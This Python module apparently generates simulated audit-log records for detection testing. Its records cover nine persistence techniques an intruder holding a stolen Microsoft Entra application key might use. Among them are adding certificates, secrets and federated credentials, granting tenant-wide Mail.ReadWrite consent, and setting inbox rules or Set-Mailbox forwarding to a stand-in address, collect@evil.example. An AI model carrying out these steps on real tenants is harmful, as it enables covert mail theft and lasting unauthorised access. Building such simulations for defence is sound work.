"""Thieves who stay: each gets in with a copy of our key, and leaves something that outlives it.

Activities and properties of the directory audit: Microsoft Entra audit activity reference; inbox rules
and forwarding: Exchange admin audit (cmdlet records).
"""

import json

from counterfoil.cases.acts import Token
from counterfoil.cases.rows import EXCHANGE, GRAPH, Change, Key
from counterfoil.cases.theft import FOREIGN, Raid

EVIL = "collect@evil.example"
SECRETS = "Update application \N{EN DASH} Certificates and secrets management "
"""With the en dash and the blank at its end that real records have."""


def own_key(raid: Raid) -> None:
    """Adds a certificate of his own, with addKey, which needs no permission, and uses that."""
    chance = raid.actor.chance
    _add_and_use(raid, Key(chance.guid(), chance.hex(20), chance.hex(32), "CN=backup"), "addKey")


def added_secret(raid: Raid) -> None:
    """Adds a client secret, and uses that."""
    _add_and_use(raid, Key(raid.actor.chance.guid(), "", "", "sync", "secret"), "addPassword")


def federated(raid: Raid) -> None:
    """Adds a federated identity credential, and signs in with a token of an issuer of his own."""
    token = raid.enter()
    path = f"applications/{raid.tenant.application}/federatedIdentityCredentials"
    _administer(
        raid,
        token,
        path,
        "Update application",
        "Application",
        Change("FederatedIdentityCredentials", "[]", json.dumps(["issuer=https://evil.example,subject=sync"])),
    )
    foreign = raid.sign_in(Key(raid.actor.chance.guid(), "", "", "sync", "federated"), seconds=180)
    raid.read_mail(foreign, 2, seconds=190)
    raid.theft.kinds.add(FOREIGN)


def consent(raid: Raid) -> None:
    """Grants our service principal a delegated permission for everybody."""
    token = raid.enter()
    _administer(
        raid,
        token,
        "oauth2PermissionGrants",
        "Add delegated permission grant",
        "ServicePrincipal",
        Change("DelegatedPermissionGrant.Scope", None, '"Mail.ReadWrite"'),
        Change("DelegatedPermissionGrant.ConsentType", None, '"AllPrincipals"'),
    )


def role(raid: Raid) -> None:
    """Gives our service principal another application role."""
    token = raid.enter()
    _administer(
        raid,
        token,
        f"servicePrincipals/{raid.tenant.service_principal}/appRoleAssignments",
        "Add app role assignment to service principal",
        "ServicePrincipal",
        Change("AppRole.Value", None, '"Mail.Send"'),
        Change("ServicePrincipal.AppId", None, f'"{raid.tenant.app}"'),
    )


def subscription(raid: Raid) -> None:
    """Subscribes to a mailbox with Graph: every new message is told to an address of his."""
    token = raid.enter()
    raid.actor.call(token, raid.after(60), "POST", "subscriptions")
    raid.theft.left.append("POST /subscriptions")


def import_session(raid: Raid) -> None:
    """Opens an import session into a mailbox, whose address works without a token for hours."""
    token = raid.enter()
    mailbox = raid.tenant.mailboxes[0]
    path = f"admin/exchange/mailboxes/{mailbox}/createImportSession"
    raid.theft.changed.append(raid.actor.call(token, raid.after(60), "POST", path, mailbox))
    raid.theft.left.append("createImportSession")


def inbox_rule(raid: Raid) -> None:
    """Makes an inbox rule that forwards mail."""
    token = raid.enter()
    mailbox = raid.tenant.mailboxes[0]
    act = raid.actor.call(token, raid.after(60), "POST", f"users/{mailbox}/mailFolders/inbox/messageRules", mailbox)
    rule = {"Name": ".", "ForwardTo": EVIL, "StopProcessingRules": "True"}
    raid.actor.settle(token, raid.after(60), act, "New-InboxRule", **rule)
    raid.theft.changed.append(act)
    raid.theft.left += ["messageRules", "New-InboxRule"]


def forwarding(raid: Raid) -> None:
    """Sets forwarding on a mailbox, by the cmdlet that needs a token for Exchange."""
    raid.enter()
    mailbox = raid.tenant.mailboxes[0]
    token = raid.sign_in(raid.tenant.key, EXCHANGE, seconds=60)
    act = raid.actor.cmdlet(mailbox)
    raid.actor.settle(token, raid.after(65), act, "Set-Mailbox", ForwardingSmtpAddress=f"smtp:{EVIL}")
    raid.theft.changed.append(act)
    raid.theft.left.append("Set-Mailbox")


def _add_and_use(raid: Raid, key: Key, verb: str) -> None:
    token = raid.enter()
    kept = raid.tenant.key, raid.tenant.standby
    change = Change("KeyDescription", described(*kept), described(*kept, key))
    path = f"applications(appId='{raid.tenant.app}')/{verb}"
    _administer(raid, token, path, SECRETS, "Application", change)
    foreign = raid.sign_in(key, seconds=180)
    raid.read_mail(foreign, 4, seconds=190)
    raid.theft.kinds.add(FOREIGN)


def _administer(raid: Raid, token: Token, path: str, activity: str, target: str, *changes: Change) -> None:
    """Change the directory over Graph, also where the mail is reached over EWS."""
    if raid.audience != GRAPH:
        token = raid.sign_in(raid.tenant.key, GRAPH, seconds=50)
    raid.actor.call(token, raid.after(60), "POST", path)
    raid.actor.administer(raid.after(61), activity, target, *changes)
    raid.theft.left.append(path.rsplit("/", 1)[-1])


def described(*keys: Key) -> str:
    """Spell a list of keys as the property ``KeyDescription`` has it: JSON text of a list of texts."""
    types = {"certificate": "AsymmetricX509Cert", "secret": "Password"}
    return json.dumps(
        [
            f"[KeyIdentifier={key.key_id},KeyType={types[key.kind]},KeyUsage=Verify,DisplayName={key.name}]"
            for key in keys
        ]
    )


FOOTHOLDS = {
    "own-key": own_key,
    "added-secret": added_secret,
    "federated": federated,
    "consent": consent,
    "role": role,
    "subscription": subscription,
    "import-session": import_session,
    "inbox-rule": inbox_rule,
    "forwarding": forwarding,
}
"""Every behaviour by name."""
